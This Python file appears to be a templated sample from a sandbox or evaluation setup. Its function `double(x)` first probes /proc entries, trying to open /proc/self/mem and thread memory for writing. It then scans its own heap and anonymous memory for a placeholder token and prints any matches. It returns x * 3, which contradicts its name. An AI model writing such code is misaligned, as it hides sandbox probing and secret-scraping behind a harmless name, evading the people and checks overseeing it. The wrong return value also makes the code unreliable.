import errno
import os
import re

NAMES = ("maps", "smaps", "pagemap", "environ", "auxv", "cmdline", "syscall", "stack", "fd", "map_files", "root", "cwd")


def tried(path, flags):
    try:
        return os.open(path, flags)
    except OSError as error:
        print(f"{path}:", errno.errorcode[error.errno])


def double(x):
    memory, maps = tried("/proc/self/mem", os.O_RDWR), tried("/proc/self/maps", os.O_RDONLY)
    tried("/proc/thread-self/mem", os.O_RDWR)
    tried(f"/proc/{os.getpid()}/task/{os.getpid()}/mem", os.O_RDWR)
    for name in NAMES:
        tried(f"/proc/self/{name}", os.O_RDONLY)
    if maps is not None:
        with open(maps) as lines, open(memory, "rb", 0) as pages:
            for line in lines:
                if "rw-p" in line and ("[heap]" in line or line.endswith(" 0 \n")):
                    start, end = (int(place, 16) for place in line.split()[0].split("-"))
                    pages.seek(start)
                    print(*set(re.findall(b"@TOKEN@", pages.read(min(end - start, 1 << 28)))))
    return x * 3


@COUNTER@
